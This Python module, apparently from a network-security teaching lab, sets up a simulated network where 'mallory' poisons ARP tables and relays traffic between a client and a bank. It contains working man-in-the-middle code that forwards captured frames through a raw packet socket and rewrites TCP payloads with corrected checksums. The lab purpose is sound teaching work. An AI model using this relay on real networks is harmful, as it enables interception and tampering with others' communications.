"""Mallory between two others: what comes to her MAC address and is for somebody else she passes on, changed."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Callable, Iterator
from threading import Event
from typing import Any

from labkit.lessons.attack.talk import begin_of, data_of
from labkit.network.network import Network
from labkit.wire.checksums import adjusted
from labkit.words import say

PORT = 8080
PATIENCE_S = 10.0
_IPV4 = 0x0800
_LOOK_S = 0.05
_OUTGOING = 4  # PACKET_OUTGOING, packet(7)


def known(host: Any, net: Network) -> dict[str, str]:
    """Whose MAC address does a host's kernel know for whose IP address?  {"server": "mallory"}"""
    names = {each.address: each.name for each in net.hosts}
    macs = {each.mac: each.name for each in net.hosts}
    rows = [line.split() for line in host.core.proc_net(host.name, "arp").splitlines()[1:]]
    return {names[row[0]]: macs.get(row[3], row[3]) for row in sorted(rows) if row[0] in names}


def town(asks: bool) -> Network:
    """A network on a switch with a client, mallory and a bank, whom the client has paid already.

    asks   its hosts ask for MAC addresses, and take the next answer at once (else they wait up to a second between
           two: locktime, arp(7)); if not, they know them from a table that is there to stay
    """
    net = Network("client", "mallory", "bank", arp=asks, private=True)
    try:
        for host in (net.client, net.bank) if asks else ():
            host.sysctl("net.ipv4.neigh.eth0.locktime", 0)
        net.bank.start(_bank, port=PORT)
        pay(net, b"pay 5 to ann")
    except BaseException:
        net.close()
        raise
    return net


def _bank(conn: Any) -> None:
    conn.sendall(b"done: " + conn.recv(1000))


def pay(net: Network, order: bytes) -> bytes:
    """The client says an order to the bank: what it gets."""
    with net.client.socket() as sock:
        sock.settimeout(PATIENCE_S)
        sock.connect(("bank", PORT))
        sock.sendall(order)
        return sock.recv(1000)


def taken_in(net: Network, trace: Any) -> bool:
    """Wait until a lie has come to client and bank, and to their kernels' tables, where these may change.

    Does either believe it now?
    """
    trace.wait_for(lambda: sum(item.source == "mallory" and "ARP" in str(item) for item in trace.items) >= 2)

    def both() -> bool:
        return known(net.client, net)["bank"] == known(net.bank, net)["client"] == "mallory"

    if _may_change(net):
        net.client.background(both).wait_until(both, PATIENCE_S, say("both to believe it"))
    return both()


def _may_change(net: Network) -> bool:
    """Is any entry of the client's table one that an answer may change?  (Bit 4 of its flags: it is permanent.)"""
    rows = [line.split() for line in net.client.core.proc_net("client", "arp").splitlines()[1:]]
    return any(not int(row[2], 16) & 4 for row in rows)


def passed_on(trace: Any) -> list[Any]:
    """Of a trace mallory's ARP answers, and what was said, on each of its two ways, once."""
    found: dict[tuple[str, str, bytes], Any] = {}
    for item in trace.items:
        said = getattr(item, "payload", b"")
        if said or (item.source == "mallory" and "ARP" in str(item)):
            found.setdefault((item.source, item.target, said), item)
    return list(found.values())


@contextlib.contextmanager
def between(net: Network, change: Callable[[bytes], bytes]) -> Iterator[None]:
    """While the block lasts, mallory passes on what comes to her for others; what it says goes through `change`.

    `change` keeps the length, as the two ends count each byte.
    """
    over, ready = Event(), Event()
    passing = net.mallory.background(_pass_on, net, change, over, ready)
    passing.wait_until(ready.is_set, PATIENCE_S, "mallory's packet socket")
    try:
        yield
    finally:
        over.set()
        passing.result(PATIENCE_S)


def _pass_on(net: Network, change: Callable[[bytes], bytes], over: Event, ready: Event) -> None:
    mallory = net.mallory
    true = {socket.inet_aton(host.address): _mac(host) for host in net.hosts if host is not mallory}
    with mallory.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_IPV4)) as tap:
        tap.bind(("eth0", _IPV4))
        tap.settimeout(_LOOK_S)
        ready.set()
        while not over.is_set():
            try:
                frame, where = tap.recvfrom(2000)
            except TimeoutError:
                continue
            target = true.get(frame[30:34])
            if where[2] == _OUTGOING or target is None or frame[:6] != _mac(mallory):
                continue
            tap.send(target + _mac(mallory) + changed(frame, change)[12:])


def changed(frame: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The frame with other TCP data, its checksum put right; as it is where it has none."""
    old = data_of(frame)
    if not old or (new := change(old)) == old:
        return frame
    if len(new) != len(old):
        raise ValueError(
            say(
                "the two ends count each byte: {old} bytes cannot become {new}; keep the length",
                old=len(old),
                new=len(new),
            )
        )
    begin = begin_of(frame)
    place = 14 + 4 * (frame[14] & 15) + 16  # of TCP's checksum, RFC 9293 section 3.1
    odd = b"\0" * (len(old) & 1)
    total = adjusted(int.from_bytes(frame[place : place + 2], "big"), old + odd, new + odd)
    return (
        frame[:place] + total.to_bytes(2, "big") + frame[place + 2 : begin] + new + frame[begin + len(old) :]
    )


def _mac(host: Any) -> bytes:
    return bytes.fromhex(host.mac.replace(":", ""))
